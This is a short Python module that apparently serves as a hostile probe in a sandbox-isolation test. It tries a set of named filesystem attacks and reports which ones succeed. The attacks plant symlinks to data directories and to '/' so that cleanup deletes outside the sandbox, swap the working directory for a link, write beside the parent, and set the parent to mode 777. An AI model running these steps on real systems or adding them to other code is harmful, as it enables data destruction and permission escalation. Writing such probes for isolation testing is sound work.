import os

HERE = os.getcwd()
PARENT = os.path.dirname(HERE)


def swap(target):
    os.rename(HERE, HERE + "-hostile-")
    os.symlink(target, HERE)


def links_inside(facts):
    """Links in the folder lead out; whoever follows them when cleaning up deletes there."""
    for number, place in enumerate(
        [facts["data_dir"], facts["public_dir"], facts["neighbour_code"], "/"]
    ):
        os.symlink(place, f"link-{number}")
        os.makedirs(f"deep/{number}", exist_ok=True)
        os.symlink(place, f"deep/{number}/link")
    return False


def rights_of_parent(facts):
    os.chmod(PARENT, 0o777)
    return os.stat(PARENT).st_mode & 0o777 == 0o777


ATTACKS = {
    "links inside": links_inside,
    "swap": lambda facts: swap(facts["public_dir"]),
    "remove": lambda facts: (
        os.rmdir(HERE) if not os.listdir(HERE) else os.rename(HERE, PARENT + "/hostile-moved")
    ),
    "beside": lambda facts: os.mkdir(PARENT + "/hostile-beside"),
    "link beside": lambda facts: os.symlink("/", PARENT + "/hostile-link"),
    "rights of the parent": rights_of_parent,
    "fill the parent": lambda facts: open(PARENT + "/hostile-file", "w").close(),
}


def handle(payload):
    facts, achieved = payload["facts"], []
    for name, attack in ATTACKS.items():
        try:
            if attack(facts) is not False:
                achieved.append(name)
        except OSError:
            pass
    return {"tried": list(ATTACKS), "achieved": achieved}
